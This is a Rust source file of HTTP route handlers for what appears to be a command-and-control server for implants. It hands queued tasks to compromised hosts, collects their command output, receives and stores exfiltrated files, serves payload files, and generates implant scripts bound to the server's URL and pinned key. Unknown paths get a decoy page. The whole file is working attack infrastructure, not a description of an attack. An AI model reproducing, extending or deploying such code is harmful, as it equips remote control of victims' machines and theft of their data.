//! Route handlers for the six implant-facing paths (spec §4.5).

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use axum::body::{Body, Bytes};
use axum::extract::{ConnectInfo, Extension, Path, Query, State};
use axum::http::{HeaderMap, Method, StatusCode, Uri};
use axum::response::{IntoResponse, Response};
use futures::StreamExt;
use serde_json::json;
use time::OffsetDateTime;
use tracing::Level;

use crate::bus::{Event, EventName, RequestAttrs};
use crate::tls::whitelist::normalize_host;

use super::exfil;
use super::script;
use super::{AppState, SniInfo};

/// How often a pending `/o` batch is flushed even if the body hasn't ended
/// (spec §4.5.2, W=100ms).
const OUTPUT_TICK: Duration = Duration::from_millis(100);

fn request_attrs(
    headers: &HeaderMap,
    method: &Method,
    uri: &Uri,
    remote: SocketAddr,
    sni: &SniInfo,
) -> RequestAttrs {
    RequestAttrs {
        host: headers
            .get(axum::http::header::HOST)
            .and_then(|v| v.to_str().ok())
            .map(str::to_string),
        method: Some(method.to_string()),
        remote_address: Some(remote.to_string()),
        url: Some(uri.to_string()),
        sni: sni.sni.clone(),
    }
}

async fn record_new_implant(app: &AppState, id: &str) {
    if app.is_new_implant(id) {
        app.bus
            .publish(Event::new(EventName::NewImplant, json!({ "id": id })))
            .await;
    }
}

/// `/t/`, `/t`, `/o/`, `/o` (spec §8 Testable Property 3): an empty implant
/// ID is always an unconditional, unlogged empty 200 — never `index.html`.
pub async fn empty_ok() -> impl IntoResponse {
    (StatusCode::OK, String::new())
}

/// `GET /t/{id}` (spec §4.5.1).
pub async fn task(
    State(app): State<Arc<AppState>>,
    Path(id): Path<String>,
    ConnectInfo(remote): ConnectInfo<SocketAddr>,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    sni_ext: Option<Extension<SniInfo>>,
) -> impl IntoResponse {
    if id.is_empty() {
        return (StatusCode::OK, String::new());
    }
    let sni = sni_ext.map(|e| e.0).unwrap_or_default();

    record_new_implant(&app, &id).await;

    let (popped, qlen) = {
        let mut guard = app.state.lock().await;
        guard.saw(&id, remote, OffsetDateTime::now_utc());
        let popped = guard.pop_task(&id);
        let qlen = guard.queue_len(&id);
        guard.unlock_and_write();
        (popped, qlen)
    };

    let attrs = request_attrs(&headers, &method, &uri, remote, &sni);
    let level = if popped.is_some() { Level::INFO } else { Level::DEBUG };
    app.bus
        .publish(
            Event::new(
                EventName::TaskRequest,
                json!({ "id": id, "task": popped, "qlen": qlen }),
            )
            .with_request(attrs)
            .with_level(level),
        )
        .await;

    match popped {
        Some(t) => (StatusCode::OK, format!("{t}\n")),
        None => (StatusCode::OK, String::new()),
    }
}

/// `POST /o/{id}` (spec §4.5.2).
pub async fn output(
    State(app): State<Arc<AppState>>,
    Path(id): Path<String>,
    ConnectInfo(remote): ConnectInfo<SocketAddr>,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    sni_ext: Option<Extension<SniInfo>>,
    body: Body,
) -> impl IntoResponse {
    if id.is_empty() {
        return StatusCode::OK;
    }
    let sni = sni_ext.map(|e| e.0).unwrap_or_default();
    record_new_implant(&app, &id).await;

    {
        let mut guard = app.state.lock().await;
        guard.saw(&id, remote, OffsetDateTime::now_utc());
        guard.unlock_and_write();
    }

    let attrs = request_attrs(&headers, &method, &uri, remote, &sni);
    let mut stream = body.into_data_stream();
    let mut buffer: Vec<u8> = Vec::new();
    let mut ticker = tokio::time::interval(OUTPUT_TICK);
    ticker.tick().await;

    loop {
        tokio::select! {
            _ = app.shutdown.cancelled() => break,
            chunk = stream.next() => {
                match chunk {
                    Some(Ok(bytes)) => {
                        buffer.extend_from_slice(&bytes);
                        let mut guard = app.state.lock().await;
                        guard.saw(&id, remote, OffsetDateTime::now_utc());
                        guard.unlock_and_write();
                    }
                    Some(Err(err)) => {
                        tracing::warn!(id = %id, error = %err, "output read failed");
                        break;
                    }
                    None => break,
                }
            }
            _ = ticker.tick() => {
                flush_output_batch(&app, &id, &mut buffer, &attrs).await;
            }
        }
    }
    flush_output_batch(&app, &id, &mut buffer, &attrs).await;
    StatusCode::OK
}

async fn flush_output_batch(app: &AppState, id: &str, buffer: &mut Vec<u8>, attrs: &RequestAttrs) {
    if buffer.is_empty() {
        return;
    }
    let trimmed = match buffer.last() {
        Some(b'\n') => &buffer[..buffer.len() - 1],
        _ => &buffer[..],
    };
    let output = String::from_utf8_lossy(trimmed).into_owned();
    app.bus
        .publish(
            Event::new(EventName::Output, json!({ "id": id, "output": output }))
                .with_request(attrs.clone()),
        )
        .await;
    buffer.clear();
}

/// `POST /p/{rel}` (spec §4.5.3). Only routed when `exfil_max > 0`.
pub async fn exfil(
    State(app): State<Arc<AppState>>,
    Path(rel): Path<String>,
    ConnectInfo(remote): ConnectInfo<SocketAddr>,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    sni_ext: Option<Extension<SniInfo>>,
    body: Body,
) -> impl IntoResponse {
    let sni = sni_ext.map(|e| e.0).unwrap_or_default();
    let attrs = request_attrs(&headers, &method, &uri, remote, &sni);
    let stream = body.into_data_stream();

    match exfil::save(&app.layout.exfil_dir(), &rel, app.exfil_max, stream).await {
        Ok(result) => {
            app.bus
                .publish(
                    Event::new(
                        EventName::Exfil,
                        json!({
                            "size": result.size,
                            "hash": result.hash_hex,
                            "filename": result.path.to_string_lossy(),
                            "requested_path": rel,
                        }),
                    )
                    .with_request(attrs),
                )
                .await;
        }
        Err(err) => {
            tracing::debug!(requested_path = %rel, error = %err, "exfil rejected");
        }
    }
    StatusCode::OK
}

/// `GET /f/{rel…}` (spec §4.5.4).
pub async fn file(
    State(app): State<Arc<AppState>>,
    ConnectInfo(remote): ConnectInfo<SocketAddr>,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    sni_ext: Option<Extension<SniInfo>>,
    mut req: axum::http::Request<Body>,
) -> Response {
    let sni = sni_ext.map(|e| e.0).unwrap_or_default();
    let attrs = request_attrs(&headers, &method, &uri, remote, &sni);
    let filename = uri.path().strip_prefix("/f/").unwrap_or(uri.path()).to_string();

    // `ServeDir` resolves against `req.uri().path()` verbatim, so the route's
    // own `/f/` prefix has to come off before handing the request down —
    // otherwise it looks for `files/f/<rel>` instead of `files/<rel>`.
    *req.uri_mut() = stripped_file_uri(&uri, &filename);

    let (response, meta) = app.files.serve(req).await;
    app.bus
        .publish(
            Event::new(
                EventName::StaticFileRequested,
                json!({
                    "status_code": meta.status.as_u16(),
                    "size": meta.bytes,
                    "location": meta.location,
                    "filename": filename,
                }),
            )
            .with_request(attrs),
        )
        .await;
    response
}

/// `GET|POST /c` (spec §4.5.5).
pub async fn implant_script(
    State(app): State<Arc<AppState>>,
    ConnectInfo(remote): ConnectInfo<SocketAddr>,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    sni_ext: Option<Extension<SniInfo>>,
    Query(query): Query<HashMap<String, String>>,
    body: Bytes,
) -> impl IntoResponse {
    let sni = sni_ext.map(|e| e.0).unwrap_or_default();

    let form: HashMap<String, String> = url::form_urlencoded::parse(&body)
        .into_owned()
        .collect();

    let host_part = query
        .get("c2")
        .cloned()
        .or_else(|| form.get("c2").cloned())
        .or_else(|| {
            headers
                .get("c2")
                .and_then(|v| v.to_str().ok())
                .map(str::to_string)
        })
        .or_else(|| {
            headers
                .get(axum::http::header::HOST)
                .and_then(|v| v.to_str().ok())
                .map(normalize_host)
        })
        .or_else(|| sni.sni.clone());

    let Some(host_part) = host_part else {
        return (StatusCode::OK, String::new());
    };

    let scheme = if sni.is_tls { "https" } else { "http" };
    let url = format!("{scheme}://{host_part}");

    let pubkey_fp = if sni.is_tls
        && sni
            .sni
            .as_deref()
            .map(|h| app.cert_resolver.serves_selfsigned(h))
            .unwrap_or(false)
    {
        app.cert_resolver.selfsigned_pubkey_fingerprint().unwrap_or_default()
    } else {
        String::new()
    };

    let rand_n = script::random_rand_n();
    let template = script::discover_template(app.layout.base()).await;
    let rendered = script::render(
        &template,
        &script::TemplateParams {
            pubkey_fp: pubkey_fp.clone(),
            rand_n: rand_n.clone(),
            url: url.clone(),
        },
    );

    tracing::info!(pubkey_fp = %pubkey_fp, rand_n = %rand_n, url = %url, "implant generated");
    let attrs = request_attrs(&headers, &method, &uri, remote, &sni);
    app.bus
        .publish(
            Event::new(
                EventName::ImplantGeneration,
                json!({ "PubkeyFP": pubkey_fp, "RandN": rand_n, "URL": url }),
            )
            .with_request(attrs),
        )
        .await;

    (StatusCode::OK, rendered)
}

/// Rebuild `uri` with its `/f/` prefix removed, preserving any query string.
/// Falls back to the original URI on the (unreachable in practice) case
/// where the rewritten path fails to parse.
fn stripped_file_uri(uri: &Uri, filename: &str) -> Uri {
    let candidate = match uri.query() {
        Some(query) => format!("/{filename}?{query}"),
        None => format!("/{filename}"),
    };
    let Ok(path_and_query) = candidate.parse() else {
        return uri.clone();
    };
    let mut parts = uri.clone().into_parts();
    parts.path_and_query = Some(path_and_query);
    Uri::from_parts(parts).unwrap_or_else(|_| uri.clone())
}

/// `/` and every unmatched path (spec §4.5.6): serve `index.html` or an
/// empty 200. Empty-ID `/t`/`/o` are routed to `empty_ok` directly and never
/// reach this handler (§8 Testable Property 3).
pub async fn default_file(State(app): State<Arc<AppState>>) -> impl IntoResponse {
    match tokio::fs::read(app.layout.index_html()).await {
        Ok(bytes) => (StatusCode::OK, bytes),
        Err(_) => (StatusCode::OK, Vec::new()),
    }
}
